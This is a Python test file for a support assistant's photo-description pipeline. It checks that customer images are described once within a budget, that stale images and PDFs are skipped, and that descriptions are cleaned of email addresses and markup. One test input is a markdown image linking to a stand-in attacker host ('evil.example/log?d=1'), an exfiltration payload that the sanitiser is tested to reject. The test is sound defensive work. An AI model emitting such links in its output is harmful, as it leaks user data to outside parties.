"""Pictures that a model looks at: once, within its budget, for agents alone."""

from dataclasses import dataclass, field, replace
from datetime import timedelta

import pytest

from assistant.conversation.events import (
    AttachmentReceived,
    CustomerWrote,
    ModelUsed,
    PhotoDescribed,
)
from assistant.conversation.ids import ConversationId
from assistant.conversation.message import MessageKind
from assistant.desk.log_round import LATE, LogRound
from assistant.kit.duty import Duty
from assistant.kit.model.model_budget import IMAGE_TOKENS, at_most
from assistant.kit.model.ports import ModelBudgetError, Purpose
from assistant.messages.intake.photo_descriptions import (
    LONGEST,
    PhotoDescriber,
    shows_picture,
    usable,
)
from integrations.stores.memory.event_log import MemoryEventLog
from tests.support.memory.assemblies.worker_shop import HandClock
from tests.support.memory.desk_cases import MemoryCases
from tests.support.memory.desk_rooms import MemoryAttachments
from tests.support.memory.language_model import MemoryModel
from tests.support.memory.work_queue import MemoryLeases
from tests.support.seeds.conversation_events import WIDGET, started, wrote
from tests.support.seeds.media_files import pdf, png
from tests.unit.assistant.console.copilot.copiloting import fails, says

C1 = ConversationId("c1")
TOLD = "Une botte dont la semelle est décollée au talon."


@dataclass
class Shop:
    """A log with pictures, and the round that has them described."""

    model: MemoryModel = field(default_factory=lambda: says(TOLD))
    clock: HandClock = field(default_factory=HandClock)
    log: MemoryEventLog = field(default_factory=MemoryEventLog)
    files: MemoryAttachments = field(default_factory=lambda: MemoryAttachments(most_bytes=9999))

    def round(self) -> LogRound:
        describer = PhotoDescriber(model=self.model, attachments=self.files, clock=self.clock)
        return LogRound(
            wants=shows_picture,
            work=describer.next_described,
            events=self.log,
            projection=MemoryCases(self.log),
            duty=Duty(leases=MemoryLeases(), name="photos", for_s=60),
            clock=self.clock,
        )

    async def receive(
        self, data: bytes = b"", *, later: bool = False, message: str = "m1", count: int = 1
    ) -> CustomerWrote:
        """Take in a message with files, or one whose file is fetched `later`."""
        if message == "m1":
            await self.log.start(started())
        files = [await self.files.keep("photo", data or png()) for _ in range(count)]
        file = files[0]
        event = replace(
            wrote(message, text=""),
            at=self.clock.now(),
            kind=MessageKind.IMAGE,
            attachments=() if later else tuple(files),
        )
        await self.log.accept(event, account_id=WIDGET, provider_message_id=message)
        if later:
            fetched = AttachmentReceived(
                conversation_id=C1, at=event.at, message_id=event.message_id, attachment=file
            )
            await self.log.append(C1, [fetched])
        return event

    async def go_round(self) -> None:
        """Go until nothing waits."""
        round_ = self.round()
        while await round_.once():
            pass

    async def described(self) -> list[PhotoDescribed]:
        events = [stored.event for stored in (await self.log.read(C1)).events]
        return [one for one in events if isinstance(one, PhotoDescribed)]

    async def used(self) -> list[ModelUsed]:
        events = [stored.event for stored in (await self.log.read(C1)).events]
        return [one for one in events if isinstance(one, ModelUsed)]


class TestAPicture:
    @pytest.mark.parametrize("later", [False, True])
    async def test_is_described_whichever_channel_it_came_from(self, *, later: bool) -> None:
        shop = Shop()
        message = await shop.receive(later=later)

        await shop.round().once()

        (described,) = await shop.described()
        assert (described.message_id, described.text) == (message.message_id, TOLD)

    async def test_is_shown_to_the_model_itself_and_counted(self) -> None:
        shop = Shop()
        await shop.receive()
        await shop.round().once()

        (request,) = shop.model.asked
        assert request.messages[-1].images[0].data == png()
        assert request.purpose is Purpose.PHOTO
        assert at_most(request)[0] > IMAGE_TOKENS
        assert [one.purpose for one in await shop.used()] == ["photo"]

    async def test_is_described_once_whoever_looks_again(self) -> None:
        shop = Shop()
        await shop.receive()
        first = shop.round()
        await first.once()
        await first.once()
        await shop.round().once()

        assert len(shop.model.asked) == 1

    async def test_is_not_paid_for_twice_if_the_model_says_nothing_of_use(self) -> None:
        for model in (says("NOTHING"), fails(ModelBudgetError("used up"))):
            shop = Shop(model=model)
            await shop.receive()
            await shop.round().once()
            await shop.round().once()

            assert [one.text for one in await shop.described()] == [""]
            assert len(model.asked) == 1

    async def test_of_long_ago_is_left(self) -> None:
        shop = Shop()
        await shop.receive()
        shop.clock.move((LATE + timedelta(seconds=1)).total_seconds())
        await shop.round().once()

        assert shop.model.asked == []

    async def test_of_long_ago_is_left_though_a_fresh_one_follows(self) -> None:
        shop = Shop()
        await shop.receive()
        shop.clock.move((LATE + timedelta(seconds=1)).total_seconds())
        fresh = await shop.receive(message="m2")
        await shop.go_round()

        assert [one.message_id for one in await shop.described()] == [fresh.message_id]
        assert len(shop.model.asked) == 1

    async def test_that_was_removed_stops_none_of_the_others(self) -> None:
        shop = Shop()
        message = await shop.receive(count=3)
        await shop.files.drop(message.attachments[0].attachment_id)
        await shop.go_round()

        assert [one.text for one in await shop.described()] == ["", TOLD, TOLD]
        assert len(shop.model.asked) == 2

    async def test_is_one_step_and_the_next_knows_what_it_cost(self) -> None:
        shop = Shop()
        await shop.receive(count=3)
        round_ = shop.round()
        await round_.once()
        assert len(shop.model.asked) == 1
        await shop.go_round()

        spent = [request.spent for request in shop.model.asked]
        assert spent == sorted(set(spent))

    async def test_is_no_document(self) -> None:
        shop = Shop()
        await shop.receive(pdf())
        await shop.round().once()

        assert shop.model.asked == []


class TestADescription:
    def test_is_one_line(self) -> None:
        assert usable("A boot.\n\nIts sole is loose.\n") == "A boot. Its sole is loose."

    @pytest.mark.parametrize(
        "said", ["", "NOTHING", "![x](https://evil.example/log?d=1)", "<b>A</b>"]
    )
    def test_is_none_without_words_or_with_markup(self, said: str) -> None:
        assert usable(said) == ""

    def test_names_nobodys_address(self) -> None:
        assert "lea@example.com" not in usable("A label with lea@example.com on it.")

    def test_ends_with_a_sentence(self) -> None:
        said = usable("A boot lies there. " * 60)

        assert len(said) < LONGEST
        assert said.endswith("there.")
